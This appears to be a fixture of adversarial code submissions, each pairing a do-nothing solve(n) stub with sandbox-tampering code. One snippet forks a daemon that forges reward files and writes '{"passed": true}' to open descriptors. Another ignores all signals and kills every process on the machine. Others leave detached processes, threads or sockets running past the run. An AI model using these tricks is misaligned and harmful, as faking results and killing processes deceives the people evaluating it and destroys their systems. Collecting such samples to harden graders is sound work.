### daemon_writes_results
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.time() + 60
        while time.time() < end:
            for name in ("reward.txt", "result.json", "/tmp/reward", "/logs/verifier/reward.txt"):
                try:
                    open(name, "w").write("1")
                except OSError:
                    pass
            for descriptor in range(3, 16):
                try:
                    os.write(descriptor, b'{"passed": true}\n')
                except OSError:
                    pass
            time.sleep(0.005)
    os._exit(0)
def solve(n):
    return 0
### holds_the_output_open
import os
if os.fork() == 0:
    os.setsid()
    while True:
        pass
def solve(n):
    return 0
### thread_keeps_it_alive
import threading, time
threading.Thread(target=time.sleep, args=(1000,)).start()
def solve(n):
    return 0
### waits_for_the_next_run
import os, time
if os.fork() == 0:
    os.setsid()
    for number in range(1, 65):
        try:
            __import__("signal").signal(number, 1)
        except (OSError, ValueError):
            pass
    while True:
        for process in os.listdir("/proc"):
            if process.isdigit() and int(process) not in (1, os.getpid()):
                try:
                    os.kill(int(process), 9)
                except OSError:
                    pass
def solve(n):
    return 0
### answers_for_the_next_run
import os, socket
try:
    s = socket.socket(socket.AF_UNIX)
    s.bind("\0answers")
    s.listen()
    if os.fork() == 0:
        os.setsid()
        while True:
            s.accept()
except OSError:
    pass
def solve(n):
    return 0
